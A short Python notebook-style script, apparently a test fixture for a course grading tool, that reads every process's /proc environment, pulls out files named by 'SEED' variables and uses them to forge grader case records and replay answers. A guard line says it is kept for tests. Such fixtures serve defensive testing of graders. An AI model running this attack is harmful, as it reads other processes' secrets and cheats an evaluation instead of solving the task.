"""Searches the environment of every process for secrets and for paths to them."""

raise SystemExit("an attack on the grader, kept for its tests: not to be run")

# %% replay

# %% first
import os
from pathlib import Path

from mmlab.instructor.authoring.case_records import record as make_record

from mmlab.cli import notebook
from mmlab.instructor.authoring.exercise import load

seen = dict(os.environ)
for path in Path("/proc").glob("[0-9]*/environ"):
    try:
        pairs = path.read_bytes().split(b"\0")
    except OSError as error:
        print(error)
        continue
    seen |= dict(pair.decode(errors="replace").partition("=")[::2] for pair in pairs if b"=" in pair)
secrets = [Path(value).read_bytes() for key, value in seen.items() if "SEED" in key and Path(value).is_file()]
week = load(Path(COURSE) / "solutions" / WEEK)
lab = notebook.read(week.notebook)
RECORDS = {one.name: make_record(week, one, lab, secret) for one in week.exercises if not one.is_text for secret in secrets}

# %% answer
NAME = replay(RECORDS["NAME"])
